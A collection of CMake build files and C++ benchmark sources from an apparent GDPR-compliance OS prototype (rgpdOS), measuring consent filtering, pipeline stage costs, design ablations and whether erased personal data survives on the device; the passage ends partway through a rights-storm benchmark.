# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/rgpd_core.dir/DependInfo.cmake"
  "/root/repo/build/src/baseline/CMakeFiles/rgpd_baseline.dir/DependInfo.cmake"
  "/root/repo/build/src/workload/CMakeFiles/rgpd_workload.dir/DependInfo.cmake"
  "/root/repo/build/src/penalties/CMakeFiles/rgpd_penalties.dir/DependInfo.cmake"
  "/root/repo/build/src/kernel/CMakeFiles/rgpd_kernel.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/rgpd_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/dbfs/CMakeFiles/rgpd_dbfs.dir/DependInfo.cmake"
  "/root/repo/build/src/sentinel/CMakeFiles/rgpd_sentinel.dir/DependInfo.cmake"
  "/root/repo/build/src/dsl/CMakeFiles/rgpd_dsl.dir/DependInfo.cmake"
  "/root/repo/build/src/db/CMakeFiles/rgpd_db.dir/DependInfo.cmake"
  "/root/repo/build/src/inodefs/CMakeFiles/rgpd_inodefs.dir/DependInfo.cmake"
  "/root/repo/build/src/membrane/CMakeFiles/rgpd_membrane.dir/DependInfo.cmake"
  "/root/repo/build/src/blockdev/CMakeFiles/rgpd_blockdev.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/rgpd_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
