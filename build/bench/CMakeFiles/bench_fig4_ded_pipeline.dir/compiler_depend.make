# Empty compiler generated dependencies file for bench_fig4_ded_pipeline.
# This may be replaced when dependencies are built.
