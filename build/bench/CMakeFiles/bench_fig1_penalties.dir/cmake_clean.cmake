file(REMOVE_RECURSE
  "CMakeFiles/bench_fig1_penalties.dir/bench_fig1_penalties.cpp.o"
  "CMakeFiles/bench_fig1_penalties.dir/bench_fig1_penalties.cpp.o.d"
  "bench_fig1_penalties"
  "bench_fig1_penalties.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig1_penalties.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
