file(REMOVE_RECURSE
  "CMakeFiles/bench_consent_filter.dir/bench_consent_filter.cpp.o"
  "CMakeFiles/bench_consent_filter.dir/bench_consent_filter.cpp.o.d"
  "bench_consent_filter"
  "bench_consent_filter.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_consent_filter.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
