# Empty dependencies file for bench_consent_filter.
# This may be replaced when dependencies are built.
