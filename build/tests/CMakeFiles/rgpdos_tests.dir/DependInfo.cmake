
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/anonymize_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/anonymize_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/anonymize_test.cpp.o.d"
  "/root/repo/tests/baseline_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/baseline_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/baseline_test.cpp.o.d"
  "/root/repo/tests/blockdev_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/blockdev_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/blockdev_test.cpp.o.d"
  "/root/repo/tests/breach_report_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/breach_report_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/breach_report_test.cpp.o.d"
  "/root/repo/tests/common_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/common_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/common_test.cpp.o.d"
  "/root/repo/tests/core_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/core_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/core_test.cpp.o.d"
  "/root/repo/tests/crypto_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/crypto_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/crypto_test.cpp.o.d"
  "/root/repo/tests/db_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/db_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/db_test.cpp.o.d"
  "/root/repo/tests/dbfs_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/dbfs_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/dbfs_test.cpp.o.d"
  "/root/repo/tests/dsl_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/dsl_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/dsl_test.cpp.o.d"
  "/root/repo/tests/enforcement_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/enforcement_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/enforcement_test.cpp.o.d"
  "/root/repo/tests/filesystem_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/filesystem_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/filesystem_test.cpp.o.d"
  "/root/repo/tests/inodefs_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/inodefs_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/inodefs_test.cpp.o.d"
  "/root/repo/tests/integration_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/integration_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/integration_test.cpp.o.d"
  "/root/repo/tests/kernel_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/kernel_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/kernel_test.cpp.o.d"
  "/root/repo/tests/membrane_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/membrane_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/membrane_test.cpp.o.d"
  "/root/repo/tests/placement_enclave_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/placement_enclave_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/placement_enclave_test.cpp.o.d"
  "/root/repo/tests/property_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/property_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/property_test.cpp.o.d"
  "/root/repo/tests/sentinel_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/sentinel_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/sentinel_test.cpp.o.d"
  "/root/repo/tests/workload_penalties_test.cpp" "tests/CMakeFiles/rgpdos_tests.dir/workload_penalties_test.cpp.o" "gcc" "tests/CMakeFiles/rgpdos_tests.dir/workload_penalties_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/rgpd_core.dir/DependInfo.cmake"
  "/root/repo/build/src/baseline/CMakeFiles/rgpd_baseline.dir/DependInfo.cmake"
  "/root/repo/build/src/workload/CMakeFiles/rgpd_workload.dir/DependInfo.cmake"
  "/root/repo/build/src/penalties/CMakeFiles/rgpd_penalties.dir/DependInfo.cmake"
  "/root/repo/build/src/kernel/CMakeFiles/rgpd_kernel.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/rgpd_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/dbfs/CMakeFiles/rgpd_dbfs.dir/DependInfo.cmake"
  "/root/repo/build/src/sentinel/CMakeFiles/rgpd_sentinel.dir/DependInfo.cmake"
  "/root/repo/build/src/dsl/CMakeFiles/rgpd_dsl.dir/DependInfo.cmake"
  "/root/repo/build/src/db/CMakeFiles/rgpd_db.dir/DependInfo.cmake"
  "/root/repo/build/src/inodefs/CMakeFiles/rgpd_inodefs.dir/DependInfo.cmake"
  "/root/repo/build/src/membrane/CMakeFiles/rgpd_membrane.dir/DependInfo.cmake"
  "/root/repo/build/src/blockdev/CMakeFiles/rgpd_blockdev.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/rgpd_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
