# Empty compiler generated dependencies file for rgpdos_tests.
# This may be replaced when dependencies are built.
