file(REMOVE_RECURSE
  "CMakeFiles/regulator_audit.dir/regulator_audit.cpp.o"
  "CMakeFiles/regulator_audit.dir/regulator_audit.cpp.o.d"
  "regulator_audit"
  "regulator_audit.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/regulator_audit.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
