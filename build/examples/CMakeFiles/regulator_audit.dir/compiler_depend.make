# Empty compiler generated dependencies file for regulator_audit.
# This may be replaced when dependencies are built.
