file(REMOVE_RECURSE
  "CMakeFiles/right_to_be_forgotten.dir/right_to_be_forgotten.cpp.o"
  "CMakeFiles/right_to_be_forgotten.dir/right_to_be_forgotten.cpp.o.d"
  "right_to_be_forgotten"
  "right_to_be_forgotten.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/right_to_be_forgotten.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
