# Empty dependencies file for right_to_be_forgotten.
# This may be replaced when dependencies are built.
