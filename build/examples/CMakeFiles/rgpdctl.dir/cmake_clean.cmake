file(REMOVE_RECURSE
  "CMakeFiles/rgpdctl.dir/rgpdctl.cpp.o"
  "CMakeFiles/rgpdctl.dir/rgpdctl.cpp.o.d"
  "rgpdctl"
  "rgpdctl.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/rgpdctl.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
