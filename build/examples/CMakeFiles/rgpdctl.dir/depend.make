# Empty dependencies file for rgpdctl.
# This may be replaced when dependencies are built.
