// G3 — ded_filter selectivity sweep: invoke one purpose over a fixed
// population while the fraction of consenting subjects varies. Shows the
// membrane filter short-circuiting work: rows without consent never
// leave DBFS, so cost tracks the consenting fraction.
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

int main() {
  std::printf("=== G3: consent selectivity sweep (1000 records) ===\n");
  std::printf("%-12s %12s %12s %14s %14s\n", "consenting", "processed",
              "filtered", "total (us)", "us/consented");

  const std::size_t n = 1000;
  for (double fraction : {0.0, 0.25, 0.5, 0.75, 1.0}) {
    bench::RgpdWorld world = bench::MakeRgpdWorld(n, 1, fraction);
    const core::ProcessingId processing =
        bench::RegisterAnalytics(*world.os, /*derive_output=*/false);
    Stopwatch watch;
    auto result =
        world.os->ps().Invoke(sentinel::Domain::kApplication, processing, {});
    if (!result.ok()) std::abort();
    const double total_us = bench::NsToUs(watch.ElapsedNanos());
    const double per_consented =
        result->records_processed == 0
            ? 0.0
            : total_us / double(result->records_processed);
    std::printf("%11.0f%% %12llu %12llu %14.1f %14.2f\n", fraction * 100,
                static_cast<unsigned long long>(result->records_processed),
                static_cast<unsigned long long>(result->records_filtered_out),
                total_us, per_consented);
  }
  std::printf(
      "\nexpected shape: total cost falls as consent drops (non-consented "
      "rows stop at the membrane; their PD bytes are never loaded), with "
      "a floor from the membrane scan itself.\n");
  return 0;
}
