// F3 — the cost of the data-centric model (paper Idea 2 / Fig 3): what
// does moving the function into the PD's domain cost, relative to the
// process-centric baseline that pulls rows into the application?
//
// Three access paths over the same N-record population:
//   baseline-direct : engine Get() of each row (no GDPR checks at all)
//   baseline-gdpr   : engine SelectConsented() scan (userspace checks)
//   rgpdOS-ded      : full ps_invoke -> DED pipeline (membranes, filter,
//                     syscall-filtered execution, processing log)
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

int main() {
  std::printf(
      "=== Fig 3 experiment: process-centric vs data-centric access ===\n");
  std::printf("%-10s %-18s %14s %16s\n", "records", "path", "us/record",
              "vs direct");

  std::vector<std::pair<std::string, double>> artifact_stats;
  for (std::size_t n : {100u, 500u, 2000u}) {
    const std::string prefix = "n" + std::to_string(n) + ".";
    double direct_us = 0;
    {
      bench::BaselineWorld world = bench::MakeBaselineWorld(n);
      Stopwatch watch;
      std::uint64_t sink = 0;
      for (db::RowId id : world.rows) {
        auto record = world.engine->Get("user", id);
        if (!record.ok()) std::abort();
        sink += record->subject;
      }
      direct_us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
      std::printf("%-10zu %-18s %14.2f %16s (sink=%llu)\n", n,
                  "baseline-direct", direct_us, "1.0x",
                  static_cast<unsigned long long>(sink % 10));
      artifact_stats.emplace_back(prefix + "baseline_direct_us", direct_us);
    }
    {
      bench::BaselineWorld world = bench::MakeBaselineWorld(n);
      Stopwatch watch;
      auto rows = world.engine->SelectConsented("user", "analytics");
      if (!rows.ok() || rows->size() != n) std::abort();
      const double us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
      std::printf("%-10zu %-18s %14.2f %15.1fx\n", n, "baseline-gdpr", us,
                  us / direct_us);
      artifact_stats.emplace_back(prefix + "baseline_gdpr_us", us);
    }
    {
      // Cold invoke (boot-fresh caches), then a warm invoke over the
      // same population: the delta is what the caching stack removes
      // from the per-record enforcement premium.
      bench::RgpdWorld world = bench::MakeRgpdWorld(n);
      const core::ProcessingId processing =
          bench::RegisterAnalytics(*world.os, /*derive_output=*/false);
      Stopwatch watch;
      auto result = world.os->ps().Invoke(sentinel::Domain::kApplication,
                                          processing, {});
      if (!result.ok() || result->records_processed != n) std::abort();
      const double cold_us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
      std::printf("%-10zu %-18s %14.2f %15.1fx\n", n, "rgpdOS-ded cold",
                  cold_us, cold_us / direct_us);

      watch.Restart();
      result = world.os->ps().Invoke(sentinel::Domain::kApplication,
                                     processing, {});
      if (!result.ok() || result->records_processed != n) std::abort();
      const double warm_us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
      std::printf("%-10zu %-18s %14.2f %15.1fx\n", n, "rgpdOS-ded warm",
                  warm_us, warm_us / direct_us);
      artifact_stats.emplace_back(prefix + "rgpdos_ded_cold_us", cold_us);
      artifact_stats.emplace_back(prefix + "rgpdos_ded_warm_us", warm_us);
      artifact_stats.emplace_back(
          prefix + "block_hit_pct",
          bench::BlockCacheStatsOf(*world.os).HitRatio() * 100.0);
    }
  }
  std::printf(
      "\nexpected shape: the DED pays a per-record enforcement premium "
      "over the unchecked direct path; the premium amortises as N grows "
      "(fixed pipeline cost spread over more records) and shrinks again "
      "on the warm pass, where the caching stack serves repeat reads.\n");
  bench::DumpBenchArtifact("fig3_datacentric", artifact_stats);
  return 0;
}
