// F3 — the cost of the data-centric model (paper Idea 2 / Fig 3): what
// does moving the function into the PD's domain cost, relative to the
// process-centric baseline that pulls rows into the application?
//
// Three access paths over the same N-record population:
//   baseline-direct : engine Get() of each row (no GDPR checks at all)
//   baseline-gdpr   : engine SelectConsented() scan (userspace checks)
//   rgpdOS-ded      : full ps_invoke -> DED pipeline (membranes, filter,
//                     syscall-filtered execution, processing log)
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

int main() {
  std::printf(
      "=== Fig 3 experiment: process-centric vs data-centric access ===\n");
  std::printf("%-10s %-18s %14s %16s\n", "records", "path", "us/record",
              "vs direct");

  for (std::size_t n : {100u, 500u, 2000u}) {
    double direct_us = 0;
    {
      bench::BaselineWorld world = bench::MakeBaselineWorld(n);
      Stopwatch watch;
      std::uint64_t sink = 0;
      for (db::RowId id : world.rows) {
        auto record = world.engine->Get("user", id);
        if (!record.ok()) std::abort();
        sink += record->subject;
      }
      direct_us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
      std::printf("%-10zu %-18s %14.2f %16s (sink=%llu)\n", n,
                  "baseline-direct", direct_us, "1.0x",
                  static_cast<unsigned long long>(sink % 10));
    }
    {
      bench::BaselineWorld world = bench::MakeBaselineWorld(n);
      Stopwatch watch;
      auto rows = world.engine->SelectConsented("user", "analytics");
      if (!rows.ok() || rows->size() != n) std::abort();
      const double us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
      std::printf("%-10zu %-18s %14.2f %15.1fx\n", n, "baseline-gdpr", us,
                  us / direct_us);
    }
    {
      bench::RgpdWorld world = bench::MakeRgpdWorld(n);
      const core::ProcessingId processing =
          bench::RegisterAnalytics(*world.os, /*derive_output=*/false);
      Stopwatch watch;
      auto result = world.os->ps().Invoke(sentinel::Domain::kApplication,
                                          processing, {});
      if (!result.ok() || result->records_processed != n) std::abort();
      const double us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
      std::printf("%-10zu %-18s %14.2f %15.1fx\n", n, "rgpdOS-ded", us,
                  us / direct_us);
    }
  }
  std::printf(
      "\nexpected shape: the DED pays a per-record enforcement premium "
      "over the unchecked direct path; the premium amortises as N grows "
      "(fixed pipeline cost spread over more records).\n");
  return 0;
}
