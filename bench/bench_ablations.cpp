// A1 — ablations of the design choices DESIGN.md calls out:
//   (a) data journaling on/off: what crash-atomicity costs on writes;
//   (b) the syscall filter (seccomp analogue): per-execution overhead;
//   (c) membrane size: consent-evaluation cost vs number of purposes;
//   (d) DED placement (paper §3(3)): host vs PIM vs PIS crossover.
#include <cstdio>

#include "bench/bench_util.hpp"
#include "kernel/placement.hpp"

using namespace rgpdos;

namespace {

void JournalAblation() {
  std::printf("--- (a) data journaling: put cost with/without WAL ---\n");
  std::printf("%-12s %14s %16s\n", "journaling", "us/write",
              "device bytes/write");
  for (bool journal : {true, false}) {
    SystemClock clock;
    blockdev::MemBlockDevice device(4096, 8192);
    inodefs::InodeStore::Options options;
    options.inode_count = 1024;
    options.journal_blocks = 512;
    options.journal_enabled = journal;
    auto store = inodefs::InodeStore::Format(&device, options, &clock);
    if (!store.ok()) std::abort();
    const std::size_t n = 500;
    std::vector<inodefs::InodeId> files;
    for (std::size_t i = 0; i < n; ++i) {
      auto id = (*store)->AllocInode(inodefs::InodeKind::kFile);
      if (!id.ok()) std::abort();
      files.push_back(*id);
    }
    const Bytes payload(1024, 0x3C);
    const std::uint64_t bytes_before = device.stats().bytes_written;
    Stopwatch watch;
    for (inodefs::InodeId id : files) {
      if (!(*store)->WriteAt(id, 0, payload).ok()) std::abort();
    }
    const double us = bench::NsToUs(watch.ElapsedNanos()) / double(n);
    const double bytes_per_write =
        double(device.stats().bytes_written - bytes_before) / double(n);
    std::printf("%-12s %14.2f %16.0f\n", journal ? "on" : "off", us,
                bytes_per_write);
  }
  std::printf(
      "shape: the WAL more than triples device traffic per write (each "
      "block image is logged before landing) — the price of the crash "
      "atomicity the recovery tests depend on.\n\n");
}

void SyscallFilterAblation() {
  std::printf("--- (b) syscall filter: per-call gate cost ---\n");
  constexpr int kCalls = 2'000'000;
  {
    sentinel::SyscallContext ctx(sentinel::SyscallFilter::AllowAll(), 0);
    Stopwatch watch;
    for (int i = 0; i < kCalls; ++i) (void)ctx.GetTime();
    std::printf("%-22s %10.2f ns/call\n", "allow-all profile",
                double(watch.ElapsedNanos()) / kCalls);
  }
  {
    sentinel::SyscallContext ctx(
        sentinel::SyscallFilter::PdProcessingProfile(), 0);
    Stopwatch watch;
    for (int i = 0; i < kCalls; ++i) (void)ctx.GetTime();
    std::printf("%-22s %10.2f ns/call (allowed path)\n",
                "pd profile", double(watch.ElapsedNanos()) / kCalls);
  }
  {
    sentinel::SyscallContext ctx(
        sentinel::SyscallFilter::PdProcessingProfile(), 0);
    Stopwatch watch;
    for (int i = 0; i < kCalls; ++i) (void)ctx.Alloc(16);
    std::printf("%-22s %10.2f ns/call (rule further down the list)\n",
                "pd profile, alloc", double(watch.ElapsedNanos()) / kCalls);
  }
  std::printf(
      "shape: the BPF-style rule walk costs nanoseconds per syscall — "
      "negligible against the DED's block IO.\n\n");
}

void MembraneSizeAblation() {
  std::printf("--- (c) consent evaluation vs membrane size ---\n");
  std::printf("%-10s %14s\n", "purposes", "ns/evaluate");
  for (std::size_t purposes : {1u, 8u, 64u, 512u}) {
    membrane::Membrane m;
    m.subject_id = 1;
    m.type_name = "user";
    for (std::size_t i = 0; i < purposes; ++i) {
      m.consents["purpose_" + std::to_string(i)] =
          membrane::Consent::All();
    }
    constexpr int kEvals = 200'000;
    Stopwatch watch;
    for (int i = 0; i < kEvals; ++i) {
      auto consent = m.Evaluate("purpose_0", 100);
      if (!consent.ok()) std::abort();
    }
    std::printf("%-10zu %14.1f\n", purposes,
                double(watch.ElapsedNanos()) / kEvals);
  }
  std::printf(
      "shape: map lookup keeps evaluation logarithmic in the number of "
      "consented purposes.\n\n");
}

void PlacementSweep() {
  std::printf("--- (d) DED placement (paper §3(3)): host vs PIM vs PIS ---\n");
  std::printf("%-12s %12s %12s %12s %10s\n", "ops/byte", "host (ms)",
              "pim (ms)", "pis (ms)", "chosen");
  kernel::PlacementPlanner planner;
  const std::uint64_t bytes = 64ull << 20;  // 64 MiB of PD
  for (double ops_per_byte : {0.01, 0.03, 0.06, 0.12, 0.5, 2.0}) {
    kernel::DedWorkload workload;
    workload.bytes_in = bytes;
    workload.bytes_out = 4096;
    workload.compute_ops =
        static_cast<std::uint64_t>(double(bytes) * ops_per_byte);
    const double host =
        planner.EstimateNs(kernel::DedPlacement::kHost, workload) / 1e6;
    const double pim =
        planner.EstimateNs(kernel::DedPlacement::kPim, workload) / 1e6;
    const double pis =
        planner.EstimateNs(kernel::DedPlacement::kPis, workload) / 1e6;
    std::printf("%-12.2f %12.1f %12.1f %12.1f %10s\n", ops_per_byte, host,
                pim, pis,
                std::string(kernel::PlacementName(planner.Choose(workload)))
                    .c_str());
  }
  std::printf(
      "shape: scan-like processings (low ops/byte) belong in storage, "
      "filter-like ones in memory, compute-heavy ones on the host — the "
      "crossovers the paper's PIM/PIS remark anticipates.\n");
}

}  // namespace

int main() {
  std::printf("=== A1: design-choice ablations ===\n\n");
  JournalAblation();
  SyscallFilterAblation();
  MembraneSizeAblation();
  PlacementSweep();
  return 0;
}
