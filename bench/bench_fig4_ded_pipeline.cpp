// F4 — per-stage breakdown of the DED pipeline (paper Fig 4): where does
// the time go across the eight steps, as the record count grows?
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

int main() {
  std::printf("=== Fig 4 experiment: DED pipeline stage breakdown ===\n");
  std::printf("%-9s %10s %10s %10s %10s %10s %10s %10s %10s %10s\n",
              "records", "type2req", "load_mem", "filter", "load_data",
              "execute", "build_mem", "store", "return", "total(us)");

  std::vector<std::pair<std::string, double>> artifact_stats;
  for (std::size_t n : {10u, 100u, 1000u}) {
    bench::RgpdWorld world = bench::MakeRgpdWorld(n);
    const core::ProcessingId processing =
        bench::RegisterAnalytics(*world.os, /*derive_output=*/true);
    auto result =
        world.os->ps().Invoke(sentinel::Domain::kApplication, processing, {});
    if (!result.ok() || result->records_processed != n) std::abort();
    const core::StageTimings& t = result->timings;
    const auto pct = [&](std::int64_t ns) {
      return 100.0 * double(ns) / double(t.total_ns());
    };
    std::printf(
        "%-9zu %9.1f%% %9.1f%% %9.1f%% %9.1f%% %9.1f%% %9.1f%% %9.1f%% "
        "%9.1f%% %10.1f\n",
        n, pct(t.type2req_ns), pct(t.load_membrane_ns), pct(t.filter_ns),
        pct(t.load_data_ns), pct(t.execute_ns), pct(t.build_membrane_ns),
        pct(t.store_ns), pct(t.return_ns), bench::NsToUs(t.total_ns()));
    const std::string prefix = "records_" + std::to_string(n) + ".";
    artifact_stats.emplace_back(prefix + "total_us",
                                bench::NsToUs(t.total_ns()));
    artifact_stats.emplace_back(prefix + "store_pct", pct(t.store_ns));
    artifact_stats.emplace_back(prefix + "filter_pct", pct(t.filter_ns));
  }

  // Same sweep without derived output: the store stage collapses.
  std::printf("\n--- no derived PD (read-only purpose) ---\n");
  for (std::size_t n : {100u, 1000u}) {
    bench::RgpdWorld world = bench::MakeRgpdWorld(n);
    const core::ProcessingId processing =
        bench::RegisterAnalytics(*world.os, /*derive_output=*/false);
    auto result =
        world.os->ps().Invoke(sentinel::Domain::kApplication, processing, {});
    if (!result.ok()) std::abort();
    const core::StageTimings& t = result->timings;
    std::printf("%-9zu store=%.1f%% of %10.1f us total\n", n,
                100.0 * double(t.store_ns) / double(t.total_ns()),
                bench::NsToUs(t.total_ns()));
  }
  std::printf(
      "\nexpected shape: membrane+data loads dominate read-only runs; "
      "ded_store dominates once derived PD is written (journaled).\n");
  bench::DumpBenchArtifact("fig4_ded_pipeline", artifact_stats);
  return 0;
}
