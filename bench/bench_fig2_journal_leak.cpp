// F2 — the paper's motivating violation (Fig 2 discussion, §1): "the
// filesystem's logging mechanism can compromise the GDPR's right to be
// forgotten as data deleted by the DB engine can still be present in the
// filesystem's logs."
//
// For each population size N: insert N marked subjects, delete ALL of
// them through each system's erasure path, then scan the raw device for
// the per-subject plaintext markers. A subject counts as LEAKED if any
// marker byte survives anywhere (data region or journal).
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

namespace {

std::size_t CountLeakedSubjects(blockdev::BlockDevice& device,
                                std::size_t subjects) {
  std::size_t leaked = 0;
  for (std::size_t s = 1; s <= subjects; ++s) {
    const Bytes marker = ToBytes(workload::SubjectMarker(s));
    if (blockdev::CountBlocksContaining(device, marker) > 0) ++leaked;
  }
  return leaked;
}

}  // namespace

int main() {
  std::printf(
      "=== Fig 2 experiment: PD recoverable from the device after a "
      "DB-level delete ===\n");
  std::printf("%-10s %-26s %16s %14s\n", "subjects", "system",
              "leaked subjects", "leak rate");

  for (std::size_t subjects : {16u, 64u, 256u}) {
    // Baseline: tombstone delete, no compaction.
    {
      bench::BaselineWorld world = bench::MakeBaselineWorld(subjects);
      for (std::size_t s = 1; s <= subjects; ++s) {
        if (!world.engine->DeleteSubject(s, /*compact=*/false).ok()) {
          std::abort();
        }
      }
      const std::size_t leaked = CountLeakedSubjects(*world.device, subjects);
      std::printf("%-10zu %-26s %16zu %13.0f%%\n", subjects,
                  "baseline (tombstone)", leaked,
                  100.0 * double(leaked) / double(subjects));
    }
    // Baseline: delete + compaction (the engine's best effort).
    {
      bench::BaselineWorld world = bench::MakeBaselineWorld(subjects);
      for (std::size_t s = 1; s <= subjects; ++s) {
        if (!world.engine->DeleteSubject(s, /*compact=*/true).ok()) {
          std::abort();
        }
      }
      const std::size_t leaked = CountLeakedSubjects(*world.device, subjects);
      std::printf("%-10zu %-26s %16zu %13.0f%%\n", subjects,
                  "baseline (compacted)", leaked,
                  100.0 * double(leaked) / double(subjects));
    }
    // rgpdOS: crypto-erasure (right to be forgotten).
    {
      bench::RgpdWorld world = bench::MakeRgpdWorld(subjects);
      for (std::size_t s = 1; s <= subjects; ++s) {
        if (!world.os->RightToBeForgotten(s).ok()) std::abort();
      }
      const std::size_t leaked =
          CountLeakedSubjects(world.os->dbfs_device(), subjects);
      std::printf("%-10zu %-26s %16zu %13.0f%%\n", subjects,
                  "rgpdOS (crypto-erase)", leaked,
                  100.0 * double(leaked) / double(subjects));
    }
    // rgpdOS: hard delete.
    {
      bench::RgpdWorld world = bench::MakeRgpdWorld(subjects);
      for (dbfs::RecordId id : world.records) {
        if (!world.os->builtins().HardDelete(core::PdRef{id, "user"}).ok()) {
          std::abort();
        }
      }
      const std::size_t leaked =
          CountLeakedSubjects(world.os->dbfs_device(), subjects);
      std::printf("%-10zu %-26s %16zu %13.0f%%\n", subjects,
                  "rgpdOS (hard delete)", leaked,
                  100.0 * double(leaked) / double(subjects));
    }
  }
  std::printf(
      "\nexpected shape: baseline leaks ~100%% of deleted subjects "
      "through freed blocks / journal; rgpdOS leaks none.\n");
  return 0;
}
