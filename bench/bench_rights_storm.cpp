// The full GDPR rights matrix under storm load (ROADMAP item 4): four
// storms run against hot ps_invoke traffic and each right's latency is
// measured open-loop (Poisson arrivals at a target QPS; the recorded
// latency is completion minus SCHEDULED arrival, so coordination delay
// counts, exactly like the scale-out driver).
//
//   1. Consent-withdrawal flash crowd (Art. 7(3)): a mass of subjects
//      revoke `analytics` while invoke traffic is in flight. After each
//      revocation acks, a targeted invoke of that subject's record must
//      filter it — a post-ack serve is a stale-consent serve and the
//      bench EXITS NON-ZERO. (`core.consent.stale_revoked` counts the
//      benign pre-ack races the re-validation machinery caught.)
//   2. Subject-access / portability flood (Art. 15 / 20): bulk JSON
//      exports racing the same hot traffic.
//   3. Objection storm (Art. 21 / 22): objections — which, unlike
//      withdrawal, survive a later re-grant — plus automated-decision
//      opt-outs against an `automated: true` purpose; both verified by
//      targeted invokes after each ack, and objection withdrawal must
//      restore processing.
//   4. Art. 33 breach drill: a denial burst bigger than the bounded
//      audit ring must STILL be detected (the durable pipeline is the
//      evidence, not the ring — the PR-9 regression), and the drill
//      enumerates every subject whose PD the compromised purpose
//      touched from the chain-verified processing log.
//
// Hard gates (exit 1): any stale-consent serve, any dropped audit
// entry, a breach burst undetected after ring eviction, or a drill
// subject set missing a subject the settle invoke provably processed.
//
// Knobs: RGPDOS_STORM_SUBJECTS (population), RGPDOS_STORM_QPS (storm
// arrival rate), RGPDOS_STORM_WORKERS (hot invoke threads),
// RGPDOS_STORM_ACCESS_OPS (flood size).
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <set>
#include <thread>
#include <vector>

#include "bench/bench_util.hpp"
#include "core/breach_drill.hpp"
#include "sentinel/breach.hpp"

namespace rgpdos::bench {
namespace {

std::uint64_t EnvU64(const char* name, std::uint64_t fallback) {
  const char* value = std::getenv(name);
  if (value == nullptr || *value == '\0') return fallback;
  return std::strtoull(value, nullptr, 10);
}

